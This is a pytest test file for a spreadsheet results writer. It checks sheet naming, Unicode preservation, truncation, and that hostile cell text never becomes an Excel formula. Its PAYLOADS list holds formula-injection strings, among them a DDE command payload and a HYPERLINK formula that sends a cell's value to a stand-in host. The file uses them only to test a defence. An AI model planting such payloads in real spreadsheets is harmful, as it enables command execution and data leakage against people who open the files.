"""Whatever a cell or a server says, the results can be written and nothing in them is a formula."""

from __future__ import annotations

import re
import zipfile
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from loader.model.attempt import Attempt
from loader.model.row import Outcome, Problem, Status
from tests.workbook.raw import unescaped
from tests.workbook.results_made import (
    CREATED,
    HEADER,
    ROWS,
    SUMMARY,
    WRONG,
    Write,
    line_of,
    make_sheet,
    results_of,
    rows_of,
    seen_by_calamine,
    writer,
)

if TYPE_CHECKING:
    from pathlib import Path


@pytest.fixture
def write(tmp_path: Path) -> Write:
    return writer(tmp_path)


# Names of sheets


@pytest.mark.parametrize(
    ("title", "sheets"),
    [
        ("Problems", ["Problems", "Problems (loader)", "Summary"]),
        ("summary", ["summary", "Problems", "Summary (loader)"]),
        ("a/b[c]:d*e?f\\g", ["a b c  d e f g", "Problems", "Summary"]),
        ("x" * 40, ["x" * 31, "Problems", "Summary"]),
        ("😀" * 20, ["😀" * 15, "Problems", "Summary"]),
        ("'quoted'", ["quoted", "Problems", "Summary"]),
        ("History", ["Sheet", "Problems", "Summary"]),
        ("\x00\ud800", ["Sheet", "Problems", "Summary"]),
        ("=1+1", ["=1+1", "Problems", "Summary"]),
    ],
)
def test_sheets_have_names_that_excel_allows(title: str, sheets: list[str], write: Write) -> None:
    path = write(make_sheet(*ROWS, title=title), [], [WRONG])
    assert load_workbook(path).sheetnames == sheets
    assert CalamineWorkbook.from_path(path).sheet_names == sheets


# Hostile texts

PAYLOADS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://x.example?"&A1)',
    "+15101234567",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "=\x00",
    "#REF!",
    "<f>1</f>",
    "]]>&lt;",
    "_x003D_1",
    "'=1",
    "{=1}",
]


def formulas_in(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as package:
        return [name for name in package.namelist() if re.search(rb"<f[ >]", package.read(name))]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_a_formula_wherever_it_stands(payload: str, write: Write) -> None:
    sheet = replace(
        make_sheet([payload] * 5, above=[[payload]]),
        file=payload,
        cells=[[payload], [*HEADER[:4], payload], [payload] * 5],
    )
    outcome = Outcome(
        3,
        payload,
        Status.REJECTED,
        attempt=Attempt(message=payload, campaign_id=payload, campaign_status=payload),
        run=payload,
    )
    problem = Problem(3, 4, payload, payload, payload, payload)
    summary = replace(SUMMARY, run=payload, user=payload, account=payload, host=payload)
    path = write(sheet, [outcome], [problem], summary)
    assert [name for name in formulas_in(path) if "chart" not in name] == []
    book = load_workbook(path)
    for page in book.worksheets:
        assert {cell.data_type for row in page.iter_rows() for cell in row} <= {"s", "n"}
    assert [unescaped(str(value)) for value in rows_of(book, "Campaigns")[2][:5]] == [payload] * 5
    assert unescaped(str(book["Campaigns"].cell(3, 9).value)) == payload
    assert [unescaped(str(value)) for value in rows_of(book, "Problems")[1][2:6]] == [payload] * 4
    assert unescaped(str(line_of(book, "Host")[0])) == payload


def test_every_code_point_of_a_servers_message_survives(write: Write) -> None:
    blocks = ["".join(map(chr, range(first, first + 0x2000))) for first in range(0, 0x110000, 0x2000)]
    outcomes = [
        Outcome(row, "Recall", Status.REJECTED, attempt=Attempt(message=message))
        for row, message in enumerate(blocks, 2)
    ]
    problems = [Problem(row, 1, "Campaign name", message, message, message) for row, message in enumerate(blocks, 2)]
    path = write(make_sheet(*[["Recall"]] * len(blocks)), outcomes, problems)
    book = load_workbook(path)
    assert [unescaped(str(row[8])) for row in rows_of(book, "Campaigns")[1:]] == blocks
    for place in (3, 4, 5):
        assert [unescaped(str(row[place])) for row in rows_of(book, "Problems")[1:]] == blocks
    assert [unescaped(row[8]) for row in seen_by_calamine(path)[1:]] == blocks


def test_a_message_longer_than_a_cell_is_cut_and_says_so(write: Write) -> None:
    outcome = Outcome(2, "Recall", Status.REJECTED, attempt=Attempt(message="x" * 100_000))
    message = str(results_of(write(make_sheet(*ROWS), [outcome]), 2)["Message"])
    assert message.endswith("xxx... (cut, 100,000 characters)")
    assert len(message) == 32_767


def test_a_long_problem_is_cut_in_the_comment_and_whole_on_its_sheet(write: Write) -> None:
    book = load_workbook(write(make_sheet(*ROWS), [], [replace(WRONG, wrong="x" * 5000)]))
    comment = book["Campaigns"]["D3"].comment.text
    assert comment.endswith("characters)")
    assert len(comment) == 2000
    assert rows_of(book, "Problems")[1][4] == "x" * 5000


@pytest.mark.parametrize("value", [float("nan"), float("inf"), 10**30, object, b"bytes"])
def test_no_value_of_a_sheet_stops_the_results(value: object, write: Write) -> None:
    path = write(make_sheet([value, value]), [CREATED])
    assert results_of(path, 2)["Status"] == "Created"
    assert rows_of(load_workbook(path), "Campaigns")[1][0] == str(value)
